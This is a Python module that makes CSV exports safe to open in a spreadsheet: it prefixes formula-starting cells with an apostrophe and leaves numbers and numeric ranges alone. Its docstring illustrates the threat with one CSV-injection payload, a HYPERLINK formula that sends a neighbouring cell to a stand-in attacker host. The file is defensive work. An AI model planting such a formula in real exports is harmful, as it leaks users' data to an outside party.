"""CSV files that are safe to open in a spreadsheet.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also act on
a leading tab or carriage return: a condition named `=HYPERLINK("http://evil.example/?leak="&B2)`
would become a live link that sends the neighbouring cells away. Every CSV the app writes goes
through `csv_write`, which puts an apostrophe in front of such a cell (OWASP's advice) so that it
reads as the text it is. Numbers stay numbers: an int, float or Decimal is written as it is, and so
is text that is only a number ("-1.2", "+2.6", "78%") or a range of two ("-0.4 to +1.9").
"""

import csv
import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?"
_NUMERIC_TEXT = re.compile(rf"{_NUMBER}(?: to {_NUMBER})?")


def safe_cell(value):
    """Return `value` as a spreadsheet will read it as data: text that would start a formula gets a
    leading apostrophe; numbers, and text that is only a number or a range of two, are unchanged."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMERIC_TEXT.fullmatch(text):
        return "'" + text
    return text


def csv_write(stream, rows, *, lineterminator="\r\n"):
    """Write `rows` (lists of cells; None is an empty cell) to `stream` as CSV, every cell through `safe_cell`.

    Files end their lines with CRLF (RFC 4180); commands that print CSV pass "\n", as they always have.
    """
    writer = csv.writer(stream, lineterminator=lineterminator)
    for row in rows:
        writer.writerow(["" if cell is None else safe_cell(cell) for cell in row])
